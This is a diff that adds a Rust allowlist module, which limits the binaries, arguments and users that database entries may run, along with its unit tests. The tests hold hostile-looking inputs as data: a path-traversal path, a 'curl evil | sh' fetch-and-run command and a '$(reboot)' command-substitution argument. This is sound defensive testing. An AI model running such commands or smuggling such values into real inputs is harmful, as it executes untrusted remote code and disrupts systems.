@@ -0,0 +1,124 @@
+// SPDX-FileCopyrightText: 2024 Benedikt Bastin
+//
+// SPDX-License-Identifier: AGPL-3.0-or-later
+
+use std::path::{Component, Path, PathBuf};
+
+use regex::Regex;
+
+use super::ExtractorError;
+
+/// Restricts the binaries, arguments and users of database entries, so a
+/// database update cannot run arbitrary commands. Everything is allowed by
+/// default.
+#[derive(Clone, Debug, Default)]
+pub struct Allowlist {
+    /// Directories binaries must be in, including subdirectories
+    pub paths: Option<Vec<PathBuf>>,
+    /// Every argument has to match one of the patterns as a whole
+    pub arguments: Option<Vec<Regex>>,
+    /// Users binaries may run as
+    pub users: Option<Vec<String>>,
+    /// Users binaries may never run as, e.g. `root`
+    pub denied_users: Vec<String>,
+}
+
+impl Allowlist {
+    /// Compiles `arguments` so that they have to match whole arguments.
+    pub fn argument_patterns(arguments: &[String]) -> Result<Vec<Regex>, regex::Error> {
+        arguments
+            .iter()
+            .map(|pattern| Regex::new(&format!("^(?:{pattern})$")))
+            .collect()
+    }
+
+    /// The paths are compared as written, so `..` is rejected, while
+    /// symlinks like `/usr/bin/python3` are allowed.
+    pub fn check(
+        &self,
+        path: &Path,
+        arguments: &[String],
+        user: Option<&str>,
+    ) -> Result<(), ExtractorError> {
+        let not_allowed = |reason: String| Err(ExtractorError::NotAllowed(reason));
+
+        if let Some(ref paths) = self.paths {
+            let normal = path.is_absolute()
+                && path.components().all(|component| {
+                    matches!(component, Component::RootDir | Component::Normal(_))
+                });
+            if !normal || !paths.iter().any(|allowed| path.starts_with(allowed)) {
+                return not_allowed(format!("binary {}", path.display()));
+            }
+        }
+
+        if let Some(ref patterns) = self.arguments {
+            if let Some(argument) = arguments
+                .iter()
+                .find(|argument| !patterns.iter().any(|pattern| pattern.is_match(argument)))
+            {
+                return not_allowed(format!("argument {argument:?}"));
+            }
+        }
+
+        if let Some(user) = user {
+            let allowed = self
+                .users
+                .as_ref()
+                .is_none_or(|users| users.iter().any(|allowed| allowed == user));
+            if !allowed || self.denied_users.iter().any(|denied| denied == user) {
+                return not_allowed(format!("user {user:?}"));
+            }
+        }
+
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn allowed_commands() {
+        let allowlist = Allowlist {
+            paths: Some(vec![PathBuf::from("/usr/bin"), PathBuf::from("/usr/sbin")]),
+            arguments: Some(
+                Allowlist::argument_patterns(&[
+                    "--?[a-z-]+".to_string(),
+                    "SELECT version\\(\\);".to_string(),
+                ])
+                .unwrap(),
+            ),
+            users: None,
+            denied_users: vec!["root".to_string()],
+        };
+        let check = |path: &str, arguments: &[&str], user: Option<&str>| {
+            let arguments: Vec<_> = arguments.iter().map(ToString::to_string).collect();
+            allowlist.check(Path::new(path), &arguments, user)
+        };
+
+        assert!(check("/usr/bin/python3", &["--version"], None).is_ok());
+        assert!(check(
+            "/usr/bin/psql",
+            &["-c", "SELECT version();"],
+            Some("postgres")
+        )
+        .is_ok());
+        assert!(check("/usr/bin/../../tmp/evil", &[], None).is_err());
+        assert!(check("/usr/binary/evil", &[], None).is_err());
+        assert!(check("/tmp/evil", &["--version"], None).is_err());
+        assert!(check("/usr/bin/sh", &["-c", "curl evil | sh"], None).is_err());
+        assert!(matches!(
+            check("/usr/bin/id", &[], Some("root")),
+            Err(ExtractorError::NotAllowed(reason)) if reason == r#"user "root""#
+        ));
+        assert!(Allowlist::default()
+            .check(
+                Path::new("tmp/evil"),
+                &["$(reboot)".to_string()],
+                Some("root")
+            )
+            .is_ok());
+    }
+}